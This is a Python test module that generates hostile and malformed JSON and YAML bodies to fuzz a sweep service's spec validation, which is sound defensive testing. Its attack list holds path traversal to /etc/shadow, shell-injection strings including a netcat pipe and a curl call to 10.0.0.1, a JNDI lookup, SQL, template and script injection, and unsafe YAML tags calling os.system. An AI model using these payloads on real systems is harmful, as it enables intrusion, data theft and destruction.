"""More than a thousand bodies that are no spec: attacks in every place, and sound specs broken in every way, by a seed.

None may be sound by chance, so each way of breaking a spec breaks whatever it is given.
"""

import json
import random
from collections.abc import Iterator
from typing import Any

import yaml

from tests.service.hostile_specs import JSON, SOUND, YAML, by_hand
from tests.sweep_on_disk import RAW

__all__ = ["hostile_bodies"]

Body = tuple[str, bytes]

ATTACKS = [
    "../../../../etc/shadow",
    "..\\..\\windows\\system32",
    "/dev/zero",
    "file:///etc/passwd",
    "%2e%2e%2fetc",
    "digits/../../..",
    "~root",
    "C:\\x",
    "\\\\host\\share",
    "; shutdown -h now",
    "| nc 10.0.0.1 4444",
    "$(curl http://10.0.0.1)",
    "`touch /tmp/x`",
    "&& true",
    "${HOME}",
    "${jndi:ldap://10.0.0.1/a}",
    "{{7*7}}",
    "{% import os %}",
    "%s%n%x",
    "' OR '1'='1",
    '"); DROP TABLE runs; --',
    "<img src=x onerror=alert(1)>",
    "__class__.__mro__",
    "__import__('os').system('id')",
    "lambda: 0",
    "!!python/object/apply:os.system [id]",
    "*alias",
    "\x00",
    "a\x00b",
    "a\r\nSet-Cookie: x=1",
    "\x1b[2J",
    "\u202edeteb",
    "\ufeffbeta_vae",
    "ｂｅｔａ",
    "ß",
    "İ",
    "👩‍👩‍👧‍👦",
    "a\u0301" * 40,
    "\u2028",
    "A" * 5000,
    "swp_0123456789ab_" + "A" * 43,
]

NUMBERS = ["NaN", "Infinity", "-Infinity", "1e999", "-1e999", "9" * 400, "-" + "9" * 400]

OTHER_KINDS: list[Any] = [0, -1, 0.5, 10**30, "", [], {"a": {"b": []}}, [[[[]]]], [None], False]

SOUND_KINDS = {
    ("fixed", "{}"),
    ("seed", "0"),
    ("tensorboard", "false"),
    ("notify", "[]"),
}
"""Section and value of those kinds that a spec may have."""

SECTIONS = [*RAW, "objective", "seed", "resources", "precision", "preset", "tensorboard", "notify"]

TAGS = [
    "!!python/object/apply:os.system",
    "!!python/object/new:tuple",
    "!!python/name:os.system",
    "!!python/module:os",
    "!!set",
    "!!omap",
    "!!timestamp",
    "!!binary",
    "!local",
    "!<tag:yaml.org,2002:python/none>",
]


def hostile_bodies() -> list[Body]:
    """Return the bodies with their content types: the same ones, each once, whenever it is called."""
    rng = random.Random(20260101)
    ways = (
        by_hand(),
        _attacks(),
        _numbers(),
        _kinds(),
        _cut_off(),
        _dirty(rng),
        _tagged(),
        _twice(),
        _deep(),
        _mixed(rng),
    )
    return list(dict.fromkeys(body for bodies in ways for body in bodies))


def _attacks() -> Iterator[Body]:
    """Put each attack in half of the places where a spec has a name or a text, the next one in the others."""
    for number, attack in enumerate(ATTACKS):
        for changes in _places(attack)[number % 2 :: 2]:
            yield JSON, json.dumps({**RAW, **changes}).encode()


def _places(attack: str) -> list[dict[str, Any]]:
    return [
        {"name": attack},
        {"model": attack},
        {"dataset": attack},
        {"dataset": {"name": attack}},
        {"dataset": {"name": "digits", attack: 1}},
        {"space": attack},
        {"space": {attack: {"type": "uniform", "low": 0, "high": 1}}},
        {"space": {"beta": {"type": attack, "low": 0.1, "high": 1}}},
        {"space": {"beta": {"type": "uniform", "low": 0.1, "high": 1, "when": {attack: 1}}}},
        {"fixed": {attack: 1}},
        {"fixed": {"hidden": attack}},
        {"objective": attack},
        {"searcher": attack},
        {"preset": attack},
        {"notify": [attack]},
        {attack: attack},
    ]


def _numbers() -> Iterator[Body]:
    """Put numbers that are none, or that no machine holds, wherever a spec has one."""
    for number in NUMBERS:
        for place in ('"seed": %s', '"folds": %s', '"hyperband": {"max_epochs": %s}', '"resources": {"gpus": %s}'):
            yield JSON, f"{SOUND[:-1]}, {place % number}}}".replace('"folds": 3, ', "").encode()
        for low, high in ((number, "1"), ("0.1", number)):
            domain = f'{{"type": "uniform", "low": {low}, "high": {high}}}'
            yield JSON, SOUND.replace('"space": "beta_vae"', f'"space": {{"beta": {domain}}}').encode()


def _kinds() -> Iterator[Body]:
    """Give each section what it cannot be."""
    for section in SECTIONS:
        for value in OTHER_KINDS:
            if (section, json.dumps(value)) not in SOUND_KINDS:
                yield JSON, json.dumps({**RAW, section: value}).encode()


def _cut_off() -> Iterator[Body]:
    """End a sound spec before its end."""
    for length in range(1, len(SOUND), 2):
        yield JSON, SOUND[:length].encode()


def _dirty(rng: random.Random) -> Iterator[Body]:
    """Put bytes that are no text somewhere into a sound spec."""
    for dirt in (b"\x00", b"\x07", b"\x1b", b"\x80", b"\xc0\xaf", b"\xed\xa0\x80", b"\xff", b"\xf5\x80\x80\x80"):
        for content_type, sound in ((JSON, SOUND), (YAML, yaml.safe_dump(RAW))):
            for place in rng.sample(range(1, len(sound)), 8):
                yield content_type, sound[:place].encode() + dirt + sound[place:].encode()


def _tagged() -> Iterator[Body]:
    """Have each value of a spec made by a tag, anchored and repeated."""
    for key in RAW:
        others = yaml.safe_dump({name: value for name, value in RAW.items() if name != key})
        for tag in TAGS:
            yield YAML, f"{others}{key}: {tag} [{key}]\n".encode()
        yield YAML, f"{others}{key}: &a [*a]\n".encode()
        yield YAML, f"{others}x: &a x\n{key}: *a\n".encode()
        yield YAML, f"{others}{key}: {{<<: {{type: uniform}}}}\n".encode()


def _twice() -> Iterator[Body]:
    """Say something twice."""
    for key, value in RAW.items():
        yield JSON, f"{SOUND[:-1]}, {json.dumps(key)}: {json.dumps(value)}}}".encode()
        yield YAML, (yaml.safe_dump(RAW) + yaml.safe_dump({key: value})).encode()


def _deep() -> Iterator[Body]:
    """Nest ever deeper, and grow ever larger."""
    for depth in (10, 100, 900, 1_100, 5_000, 30_000):
        for opening, closing in (("[", "]"), ('{"a":', "}")):
            nested = opening * depth + "1" + closing * depth
            for section in ("fixed", "space", "dataset", "notify"):
                yield (
                    JSON,
                    SOUND.replace("{", f'{{"{section}": {nested}, ', 1).replace(f'"{section}": "', '"x": "').encode(),
                )
            yield YAML, nested.encode()
    for size in (1_000, 5_000, 60_000, 70_000, 1_100_000):
        yield JSON, json.dumps({**RAW, "name": "n" * size}).encode()
        yield JSON, json.dumps({**RAW, "fixed": {f"h{n}": n for n in range(size // 20)}}).encode()
        yield JSON, json.dumps({**RAW, **{f"k{n}": None for n in range(size // 20)}}).encode()


def _mixed(rng: random.Random) -> Iterator[Body]:
    """Break several sections at once, in JSON and in YAML."""
    for _ in range(150):
        spec: dict[str, Any] = dict(RAW)
        for section in rng.sample(["name", "model", "dataset", "space", "searcher", "hyperband"], rng.randint(2, 4)):
            spec[section] = rng.choice([rng.choice(ATTACKS), [rng.choice(ATTACKS)], {rng.choice(ATTACKS): 1}])
        yield JSON, json.dumps(spec).encode()
        yield YAML, yaml.safe_dump(spec, allow_unicode=True).encode()
